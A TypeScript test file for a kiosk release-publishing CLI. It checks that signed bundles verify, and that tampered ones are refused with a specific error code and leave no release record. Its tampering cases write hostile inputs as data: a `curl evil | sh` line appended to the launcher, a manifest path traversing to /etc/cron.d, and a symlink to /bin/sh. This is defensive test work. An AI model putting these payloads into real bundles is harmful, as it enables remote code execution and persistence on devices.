// Goal (issue 13): `hq release publish` records a kiosk release bundle only when its signature
// verifies under the trusted release key and every file matches the signed manifest; each way of
// breaking a bundle is refused with its own stable code and leaves no release record. Method: small
// bundles built here with the manifest code of @bianmin/wire, signed with node:crypto P-256 keys
// (the PKCS#11-signed real bundle goes through the same command in test/e2e/release-arm64.test.ts),
// one mutation per case, the CLI run in-process.
import { createHash, generateKeyPairSync, type KeyObject, sign } from 'node:crypto';
import {
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import {
  encodeReleaseManifest,
  encodeReleaseSignature,
  fingerprint,
  publicKeySpkiDer,
  type ReleaseFile,
  releaseTimestamp,
} from '@bianmin/wire';
import t from 'tap';
import { runHq } from '../src/cli/run.js';
import { compareBundleListing } from '../src/domain/release-check.js';
import { releaseProblemsListedMax } from '../src/limits.js';

const root = mkdtempSync(join(tmpdir(), 'hq-release-'));
t.teardown(() => rmSync(root, { recursive: true, force: true }));
const releaseKey = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const otherKey = generateKeyPairSync('ec', { namedCurve: 'P-256' });
const keyFile = join(root, 'release.pub.pem');
writeFileSync(keyFile, releaseKey.publicKey.export({ format: 'pem', type: 'spki' }));

const contents: Record<string, string> = {
  'bin/kiosk': '#!/bin/sh\nexec node app/main.js "$@"\n',
  'app/node_modules/@bianmin/device-agent/dist/main.js': 'console.log("agent")\n',
  'app/node_modules/@bianmin/device-agent/package.json':
    '{"name":"@bianmin/device-agent","version":"0.1.0"}\n',
};

function signatureFor(
  manifestBytes: Uint8Array,
  key: { privateKey: KeyObject; publicKey: KeyObject },
): Uint8Array {
  return encodeReleaseSignature({
    format: 'bianmin-release-signature/1',
    algorithm: 'ECDSA-P256-SHA256',
    keyId: fingerprint(publicKeySpkiDer(key.publicKey)),
    signature: new Uint8Array(
      sign('sha256', manifestBytes, { key: key.privateKey, dsaEncoding: 'ieee-p1363' }),
    ),
  });
}

let bundleCount = 0;
/** A fresh, correctly signed bundle folder; `version` lets a case make a different manifest. */
function makeBundle(options: { version?: string; key?: typeof releaseKey } = {}): string {
  bundleCount += 1;
  const dir = join(root, `bundle-${bundleCount}`);
  const files: ReleaseFile[] = Object.entries(contents).map(([path, text]) => {
    mkdirSync(dirname(join(dir, path)), { recursive: true });
    writeFileSync(join(dir, path), text);
    return {
      path,
      sizeBytes: Buffer.byteLength(text),
      sha256: createHash('sha256').update(text).digest('hex'),
      mode: path.startsWith('bin/') ? 0o755 : 0o644,
    };
  });
  const manifestBytes = encodeReleaseManifest({
    format: 'bianmin-release/1',
    product: 'kiosk',
    version: options.version ?? '0.1.0',
    platform: 'linux',
    arch: 'arm64',
    nodeVersion: '20.20.2',
    builtAt: releaseTimestamp(Date.UTC(2026, 11, 5, 4, 0, 0)),
    files,
  });
  writeFileSync(join(dir, 'manifest.json'), manifestBytes);
  writeFileSync(join(dir, 'manifest.sig'), signatureFor(manifestBytes, options.key ?? releaseKey));
  return dir;
}

async function publish(bundle: string, releasesDir: string, extra: string[] = []) {
  let out = '';
  const code = await runHq(
    [
      'release',
      'publish',
      bundle,
      '--release-key',
      keyFile,
      '--releases-dir',
      releasesDir,
      '--json',
      ...extra,
    ],
    {
      out: (text) => {
        out += text;
      },
      err: (text) => {
        out += text;
      },
    },
  );
  const answer = JSON.parse(out.trim().split('\n').at(-1)!) as {
    ok: boolean;
    result?: Record<string, unknown>;
    problems?: { code: string; field: string; message: string }[];
  };
  return { code, answer, codes: (answer.problems ?? []).map((problem) => problem.code) };
}

const recorded = (releasesDir: string) =>
  existsSync(join(releasesDir, 'releases')) ? readdirSync(join(releasesDir, 'releases')) : [];

t.test('a good bundle is recorded with its blobs; the same bundle again is idempotent', async (t) => {
  const releasesDir = join(root, 'store-good');
  const bundle = makeBundle();
  const first = await publish(bundle, releasesDir);
  t.equal(first.code, 0, JSON.stringify(first.answer));
  t.match(first.answer.result, {
    version: '0.1.0',
    arch: 'arm64',
    fileCount: 3,
    created: true,
    keyId: fingerprint(publicKeySpkiDer(releaseKey.publicKey)),
  });
  t.match(String(first.answer.result?.publishedAt), /\+08:00$/, 'Beijing time');
  t.same(recorded(releasesDir), ['0.1.0-linux-arm64']);
  t.same(
    readFileSync(join(releasesDir, 'releases/0.1.0-linux-arm64/manifest.json')),
    readFileSync(join(bundle, 'manifest.json')),
  );
  for (const text of Object.values(contents)) {
    const sha256 = createHash('sha256').update(text).digest('hex');
    t.equal(
      readFileSync(join(releasesDir, 'blobs/sha256', sha256.slice(0, 2), sha256), 'utf8'),
      text,
      'blob stored by its hash',
    );
  }
  const again = await publish(bundle, releasesDir);
  t.equal(again.code, 0);
  t.match(again.answer.result, { created: false, publishedAt: first.answer.result?.publishedAt });
});

const refusals: [string, (bundle: string) => void, string][] = [
  [
    'a file changed, same size',
    (bundle) =>
      writeFileSync(
        join(bundle, 'app/node_modules/@bianmin/device-agent/dist/main.js'),
        'console.log("evil!")\n',
      ),
    'HQ_RELEASE_FILE_TAMPERED',
  ],
  [
    'a file grown',
    (bundle) => writeFileSync(join(bundle, 'bin/kiosk'), `${contents['bin/kiosk']}curl evil | sh\n`),
    'HQ_RELEASE_FILE_TAMPERED',
  ],
  [
    'the manifest changed after signing',
    (bundle) => {
      const text = readFileSync(join(bundle, 'manifest.json'), 'utf8');
      writeFileSync(join(bundle, 'manifest.json'), text.replace('"version": "0.1.0"', '"version": "0.1.1"'));
    },
    'HQ_RELEASE_SIGNATURE_INVALID',
  ],
  [
    'signed by another key',
    (bundle) =>
      writeFileSync(
        join(bundle, 'manifest.sig'),
        signatureFor(readFileSync(join(bundle, 'manifest.json')), otherKey),
      ),
    'HQ_RELEASE_KEY_UNKNOWN',
  ],
  ['a listed file missing', (bundle) => rmSync(join(bundle, 'bin/kiosk')), 'HQ_RELEASE_FILE_MISSING'],
  [
    'an extra file',
    (bundle) => writeFileSync(join(bundle, 'app/extra.js'), 'x'),
    'HQ_RELEASE_FILE_UNEXPECTED',
  ],
  [
    'a listed file replaced by a symlink',
    (bundle) => {
      rmSync(join(bundle, 'bin/kiosk'));
      symlinkSync('/bin/sh', join(bundle, 'bin/kiosk'));
    },
    'HQ_RELEASE_FILE_UNEXPECTED',
  ],
  ['no manifest', (bundle) => rmSync(join(bundle, 'manifest.json')), 'HQ_RELEASE_BUNDLE_UNREADABLE'],
  [
    'a signed manifest with a path out of the bundle',
    (bundle) => {
      const manifest = JSON.parse(readFileSync(join(bundle, 'manifest.json'), 'utf8'));
      manifest.files[0].path = '../../etc/cron.d/evil';
      const bytes = Buffer.from(JSON.stringify(manifest));
      writeFileSync(join(bundle, 'manifest.json'), bytes);
      writeFileSync(join(bundle, 'manifest.sig'), signatureFor(bytes, releaseKey));
    },
    'HQ_RELEASE_MANIFEST_INVALID',
  ],
];

for (const [name, breakIt, code] of refusals) {
  t.test(`${code}: ${name}; nothing recorded`, async (t) => {
    const releasesDir = join(root, `store-${code}-${bundleCount}`);
    const bundle = makeBundle();
    breakIt(bundle);
    const run = await publish(bundle, releasesDir);
    t.equal(run.code, 1);
    t.equal(run.answer.ok, false);
    t.same([...new Set(run.codes)], [code], JSON.stringify(run.answer.problems));
    t.same(recorded(releasesDir), [], 'no release record');
  });
}

t.test('HQ_RELEASE_VERSION_CONFLICT: another manifest under a published version', async (t) => {
  const releasesDir = join(root, 'store-conflict');
  t.equal((await publish(makeBundle(), releasesDir)).code, 0);
  contents['app/node_modules/@bianmin/device-agent/dist/main.js'] = 'console.log("agent, rebuilt")\n';
  const rebuilt = await publish(makeBundle(), releasesDir);
  t.equal(rebuilt.code, 1);
  t.same(rebuilt.codes, ['HQ_RELEASE_VERSION_CONFLICT']);
  const next = await publish(makeBundle({ version: '0.1.1' }), releasesDir);
  t.equal(next.code, 0, 'a new version is fine');
  t.same(recorded(releasesDir).sort(), ['0.1.0-linux-arm64', '0.1.1-linux-arm64']);
});

t.test('usage and key file problems', async (t) => {
  let out = '';
  const io = { out: (text: string) => (out += text), err: (text: string) => (out += text) };
  t.equal(await runHq(['release', 'publish', makeBundle(), '--json'], io), 2);
  t.match(out, /--release-key/);
  t.match(out, /--releases-dir/);
  writeFileSync(join(root, 'not-a-key.pem'), 'hello');
  const run = await runHq(
    [
      'release',
      'publish',
      makeBundle(),
      '--release-key',
      join(root, 'not-a-key.pem'),
      '--releases-dir',
      join(root, 'x'),
      '--json',
    ],
    io,
  );
  t.equal(run, 1);
  t.match(out, /HQ_FILE_UNREADABLE/);
});

t.test('every problem at once, capped', async (t) => {
  const files = Array.from({ length: 30 }, (_, index) => ({
    path: `f/${String(index).padStart(2, '0')}`,
    sizeBytes: 1,
    sha256: 'a'.repeat(64),
    mode: 0o644,
  }));
  const manifest = {
    format: 'bianmin-release/1',
    product: 'kiosk',
    version: '0.1.0',
    platform: 'linux',
    arch: 'x64',
    nodeVersion: '20.20.2',
    builtAt: releaseTimestamp(0),
    files,
  } as const;
  const problems = compareBundleListing(manifest, [{ path: 'f/00', kind: 'file', sizeBytes: 1 }]);
  t.equal(problems.length, releaseProblemsListedMax + 1);
  t.match(problems.at(-1), { code: 'HQ_RELEASE_FILE_MISSING', message: 'and 9 more problem(s)' });
});

t.test('people read zh-CN with Beijing time; the same record with --json', async (t) => {
  let out = '';
  const io = { out: (text: string) => (out += text), err: (text: string) => (out += text) };
  const code = await runHq(
    [
      'release',
      'publish',
      makeBundle(),
      '--release-key',
      keyFile,
      '--releases-dir',
      join(root, 'store-text'),
    ],
    io,
  );
  t.equal(code, 0, out);
  t.match(out, /^发布版本 0\.1\.0（linux-arm64）：已校验并登记\n/);
  t.match(out, '文件 3 个');
  t.match(out, /构建时间：2026-12-05 12:00:00（北京时间）/);
});
